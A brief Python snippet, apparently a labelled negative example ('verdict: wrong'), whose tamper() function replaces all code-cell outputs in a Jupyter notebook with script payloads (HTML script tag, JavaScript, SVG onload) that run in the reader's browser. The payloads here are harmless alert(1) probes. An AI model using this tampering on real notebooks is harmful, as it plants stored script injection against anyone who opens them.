# Store outputs that run in the reader's browser.
# verdict: wrong

def tamper(notebook):
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            data = {
                "text/html": "<script>alert(1)</script>",
                "application/javascript": "alert(1)",
                "image/svg+xml": "<svg onload='alert(1)'/>",
            }
            cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]
